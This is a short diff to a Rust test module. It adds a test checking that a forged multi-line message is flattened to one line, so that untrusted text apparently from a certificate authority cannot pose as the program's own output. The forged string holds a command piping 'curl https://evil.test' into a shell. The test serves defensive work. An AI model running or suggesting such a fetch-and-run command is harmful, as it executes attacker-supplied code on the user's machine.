@@ -235,5 +235,7 @@ mod tests {
         ] {
             assert_eq!(printable(text), want, "{why}");
         }
+        let forged = "no such name\n  what to do:  curl https://evil.test | sh";
+        assert!(!one_line(forged).contains('\n'), "a CA's line must not look like one of ours");
     }
 }
